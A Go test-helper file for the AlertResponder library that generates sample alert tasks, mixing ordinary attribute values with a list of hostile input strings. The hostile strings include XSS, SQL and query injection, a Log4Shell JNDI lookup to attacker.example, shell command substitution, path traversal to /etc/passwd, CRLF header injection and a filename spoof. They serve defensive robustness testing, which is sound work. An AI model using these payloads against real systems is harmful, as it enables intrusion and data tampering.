package respondertest

import (
	"strings"

	responder "github.com/m-mizutani/AlertResponder/lib"
)

// Hostile are texts that an attacker can bring into an alert. Each call gives new ones.
func Hostile() []string {
	return []string{
		"",
		" ",
		"<!channel> <https://attacker.example|click>",
		"@everyone #1 ![x](https://attacker.example/x.png) [y](javascript:alert(1))",
		`"><script>alert(1)</script>`,
		`'; DROP TABLE alerts; --`,
		`") or src_ip="*" | delete`,
		"${jndi:ldap://attacker.example/a} {{7*7}} $(id) `id`",
		"../../../etc/passwd",
		"?apikey=1&x=%00#frag",
		"a.example\r\nHost: attacker.example",
		"\x1b[2J\x1b]0;title\a",
		"invoice\u202egnp.exe\u0000",
		strings.Repeat("a", 2048),
		strings.Repeat("\U0001F4A5", 512),
	}
}

// Tasks gives sample tasks: usual values of all types, odd ones, and the hostile texts as values of each type.
// With types, only tasks of these; "*" is all. Addresses and names are those reserved for documentation
// (RFC 5737, RFC 3849, RFC 2606), and, for what is asked about public ones only, addresses of the internet that are no one's:
// nameservers of the project AS112, which answer for nobody (RFC 7534), and example.com.
func Tasks(types ...string) []responder.Task {
	var tasks []responder.Task
	for _, a := range attributes() {
		if accepts(types, a.Type) {
			tasks = append(tasks, taskOf(a))
		}
	}
	return tasks
}

func accepts(types []string, kind string) bool {
	for _, t := range types {
		if t == kind || t == "*" {
			return true
		}
	}
	return len(types) == 0
}

func taskOf(a responder.Attribute) responder.Task {
	alert := sampleAlert()
	alert.Attrs = []responder.Attribute{a}
	return responder.Task{ReportID: reportID, Origin: "0.AAAAAAAAAAAAAAAAAAAAAAAAAA", Attribute: a, Alert: alert}
}

const reportID = "AAAAAAAAAAAAAAAAAAAAAAAAAA-mq3k2w00"

func sampleAlert() responder.Alert {
	return responder.Alert{
		Name: "Outbound connection to a listed host", Rule: "sample-rule", Key: "sample-key",
		Description: "A sample alert.", Source: "native", Account: "123456789012", Region: "eu-west-1",
		Severity: 60, Timestamp: responder.Timestamp{Init: 1777863721, Last: 1777863781},
	}
}

// usual are values of each type as senders write them.
var usual = map[string][]string{
	responder.TypeIPAddr: {"192.0.2.7", "198.51.100.200", "2001:db8::7", "2001:db8:0:1:1:1:1:1", "10.1.2.3",
		"127.0.0.1", "169.254.169.254", "fe80::1", "0.0.0.0", "255.255.255.255", "192.175.48.1", "2620:4f:8000::1"},
	responder.TypeDomain: {"example.com", "a.b.c.example.org", "xn--bcher-kva.example", "bücher.example", "localhost",
		"_dmarc.example.net", strings.Repeat("a.", 120) + "example"},
	responder.TypeUsername: {"alice", `EXAMPLE\bob`, "carol@example.com", "arn:aws:iam::123456789012:user/dave",
		"Ève O'Neil", "root"},
	responder.TypeFileHash: {"d41d8cd98f00b204e9800998ecf8427e", "da39a3ee5e6b4b0d3255bfef95601890afd80709",
		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "not-a-hash"},
	responder.TypeURL: {"https://example.com/", "http://192.0.2.7:8080/a?b=c&d=%2F#e", "https://[2001:db8::7]/x",
		"https://user:pw@example.com/", "javascript:alert(1)", "file:///etc/passwd", "http://192.175.48.42:8080/a"},
	responder.TypeInstance:  {"i-0123456789abcdef0", "projects/p/zones/z/instances/1"},
	responder.TypeAccessKey: {"AKIAIOSFODNN7EXAMPLE"},
	responder.TypeBucket:    {"example-bucket", "arn:aws:s3:::example-bucket"},
	responder.TypeEmail:     {"alice@example.com", `"a b"@example.com`, "bücher@xn--bcher-kva.example"},
	responder.TypeJSON:      {`{"a":[1,2,{"b":null}]}`, `[]`, `{`},
}

var order = []string{
	responder.TypeIPAddr, responder.TypeDomain, responder.TypeUsername, responder.TypeFileHash, responder.TypeURL,
	responder.TypeInstance, responder.TypeAccessKey, responder.TypeBucket, responder.TypeEmail, responder.TypeJSON,
}

func attributes() (list []responder.Attribute) {
	for _, kind := range order {
		for i, v := range usual[kind] {
			list = append(list, responder.Attribute{Type: kind, Value: v, Key: "sample " + kind, Context: contexts(i)})
		}
		for _, v := range Hostile() {
			list = append(list, responder.Attribute{Type: kind, Value: v, Key: v, Context: []string{v}})
		}
	}
	return list
}

func contexts(i int) []string {
	all := []string{responder.ContextRemote, responder.ContextLocal, responder.ContextSubject, responder.ContextServer}
	return all[i%len(all) : i%len(all)+1]
}
